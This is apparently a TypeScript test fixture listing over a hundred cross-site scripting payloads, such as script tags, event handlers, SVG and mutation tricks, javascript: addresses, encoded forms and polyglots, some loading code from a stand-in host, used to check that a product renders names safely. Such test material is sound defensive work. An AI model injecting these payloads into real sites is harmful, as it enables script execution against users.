/** A host that the product never contacts. */
export const foreignHost = 'evil.example.test'

const load = `//${foreignHost}/x`

/**
 * Texts that run `alert`, or load from `foreignHost`, if they are interpreted as HTML, as an address or as a
 * template. There is one for each technique in the evasion lists of OWASP and html5sec that may still work in a
 * current browser. Each is a single line that could be a name.
 */
export const scriptAttempts: readonly string[] = [
  // Script elements: intact, broken, or hidden from a filter that removes words.
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<script>alert(1)',
  `<script src=${load}></script>`,
  `<script/src="${load}"/></script>`,
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  `<script>import('${load}')</script>`,
  '<script type=module>alert(1)</script>',

  // Attempts to break out of the context of a text.
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '</style><img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '--><svg onload=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  "';alert(1);//",
  '";alert(1);//',
  "\\';alert(1);//",
  '${alert(1)}',
  "{{constructor.constructor('alert(1)')()}}",

  // Event handlers that run without user interaction.
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<IMG """><img src=x onerror=alert(1)>">',
  '<img src=x onerror="&#97;&#x6c;ert(1)">',
  '<img src=x onerror=&#0000097lert&#40;1&#41>',
  '<img src=x onerror=alert`1`>',
  '<img src=x onerror="window[`al`+`ert`](1)">',
  '<img src=x onerror="top.onerror=alert;throw 1">',
  '<image src=x onerror=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<x contenteditable autofocus onfocus=alert(1)>x</x>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<style>@keyframes x{}</style><b style=animation:x onanimationstart=alert(1)>x</b>',
  '<b style="transition:outline 1s" ontransitionend=alert(1) tabindex=1>x</b>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<link rel=stylesheet href=x onerror=alert(1)>',
  '<b onclick=alert(1) onpointerover=alert(1)>x</b>',

  // SVG and MathML, which follow other parsing rules.
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  `<svg><script href=${load} /></svg>`,
  '<svg><script>&#97;lert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  `<svg><image href=${load} /></svg>`,
  '<math><a href=javascript:alert(1)>x</a></math>',

  // Markup that is parsed differently the second time.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?x <img src=x onerror=alert(1)>?>',
  '</ <img src=x onerror=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>',

  // Embedded pages, and navigation away from the page.
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  `<iframe src=${load}></iframe>`,
  '<object data=javascript:alert(1)></object>',
  `<object data=${load}></object>`,
  `<embed src=${load}>`,
  '<frameset onload=alert(1)>',
  `<meta http-equiv=refresh content="0;url=http:${load}">`,

  // Resources that load when they are displayed, and elements that redirect loading.
  `<img src=${load}>`,
  `<img srcset="${load} 2x">`,
  `<link rel=stylesheet href=${load}>`,
  `<style>@import'${load}';</style>`,
  `<p style="background:url(${load})">x</p>`,
  `<table background=${load}><td>x</table>`,
  `<input type=image src=${load}>`,
  `<video poster=${load}></video>`,
  `<base href=${load}/><img src=x>`,

  // Addresses that run scripts.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#1; javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://example.com/" onclick=alert(1)>x</a>',
  '<a href="https://example.com/" target=_self ping=x>x</a>',
  '<a href="https://x"onmouseover="alert(1)">x</a>',
  'https://example.com/"onmouseover="alert(1)',
  '<form action=javascript:alert(1)><input type=submit value=x></form>',
  '<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>',

  // Encoded texts that are harmless unless something decodes them.
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',

  // Texts that work in many contexts at once.
  `'"--></style></title></textarea></script><svg/onload=alert(1)>`,
  'javascript:/*--></title></style><svg onload=`alert(1)`//*/',
]
